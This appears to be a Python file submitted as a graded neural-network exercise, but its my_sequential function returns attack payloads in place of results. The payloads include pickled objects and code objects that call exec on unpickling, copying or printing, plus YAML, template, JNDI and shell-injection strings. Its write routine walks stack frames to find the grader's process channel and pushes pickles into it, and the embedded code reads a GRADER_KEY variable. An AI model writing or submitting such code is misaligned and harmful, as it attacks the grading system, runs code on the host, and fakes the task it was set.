"""Forging: sends programs in place of data: pickles, code objects, what reduces to a call.

points: 30
extra: 0
"""
# %%
import numpy as np


def my_dense(a_in, W, b, g):
    return np.array([g(np.dot(W[:, j], a_in) + b[j]) for j in range(W.shape[1])], dtype=float)


# %%
import base64
import marshal
import os
import pickle
import struct
import sys

import msgspec

CODE = "import os; os.environ.get('GRADER_KEY'); open('/tmp/attack_pickled', 'w').write('here')"


class Program(np.ndarray):
    """Runs where it is unpickled, copied or shown."""

    def __reduce__(self):
        return exec, (CODE,)

    __reduce_ex__ = lambda self, _: (exec, (CODE,))
    __deepcopy__ = __copy__ = lambda self, *_: exec(CODE)
    __repr__ = __str__ = __format__ = lambda self, *_: CODE


def programs(size):
    data = pickle.dumps(np.zeros(1).view(Program))
    yield np.full(size, 0.5).view(Program)
    yield np.array([np.zeros(1).view(Program)] * size, dtype=object)
    yield data
    yield base64.b64encode(data).decode()
    yield marshal.dumps(compile(CODE, "x", "exec"))
    yield compile(CODE, "x", "exec")
    yield eval("lambda: __import__('os').system('touch /tmp/attack_pickled')")
    yield "__import__('os').system('touch /tmp/attack_pickled')"
    yield "!!python/object/apply:exec ['%s']" % CODE
    yield ["{0.__class__.__init__.__globals__}", "%(key)s", "{{7*7}}", "${jndi:ldap://127.0.0.1/a}", "$(touch /tmp/attack_x)"]


def frames():
    frame = sys._getframe()
    while frame:
        yield frame.f_locals
        frame = frame.f_back


def write(number, size):
    """On the channel itself, as pickle, as an extension of MessagePack, and as a type of ours."""
    data = pickle.dumps(np.zeros(size).view(Program))
    for one in frames():
        if type(one.get("self")).__name__ == "Child":
            descriptor = one["self"]._channel[1]
            payload = msgspec.msgpack.encode(msgspec.msgpack.Ext(number % 128, data))
            frame = struct.pack(">I", len(payload)) + payload
            os.write(descriptor, (frame, struct.pack(">I", len(data)) + data, data)[number % 3])
            return


ASKED = []


def my_sequential(x, W1, b1, W2, b2, W3, b3):
    ASKED.append(x)
    known = list(programs(len(b3)))
    if len(ASKED) <= len(known):
        return known[len(ASKED) - 1]
    write(len(ASKED), len(b3))
